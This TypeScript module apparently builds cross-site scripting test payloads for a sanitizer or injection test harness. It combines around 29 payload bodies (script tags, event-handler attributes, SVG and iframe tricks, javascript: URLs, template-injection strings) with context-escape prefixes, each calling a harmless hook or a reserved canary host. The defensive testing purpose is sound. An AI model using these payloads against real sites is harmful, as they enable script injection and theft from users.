/** A payload calls this function when it runs as script, and requests this host when it becomes markup. */
export const hookName = 'wgRan';
export const canaryHost = 'canary.invalid';

const run = `${hookName}()`;

const bodies = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script src=//${canaryHost}/a.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=//${canaryHost}/a.png>`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href=//${canaryHost}/a.svg#x /></svg>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="//${canaryHost}/a.swf">`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<p onmouseover=${run} onmousemove=${run}>over me</p>`,
  `<p style="animation:x" onanimationstart=${run}>`,
  `<style>@import "//${canaryHost}/a.css";</style>`,
  `<link rel=stylesheet href=//${canaryHost}/b.css>`,
  `<meta http-equiv=refresh content="0;//${canaryHost}/">`,
  `<body onload=${run} onpageshow=${run}>`,
  `<a href="javascript:${run}" autofocus>click</a>`,
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `{{constructor.constructor('${run}')()}}\${${run}}$t(x)`,
] as const;

/** Escapes from the contexts a text can appear in. */
const exits = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea></style>',
  '--></svg>',
] as const;

/** All different, each short enough for a name. */
export const payloads: string[] = exits.flatMap((exit) => bodies.map((body) => exit + body));
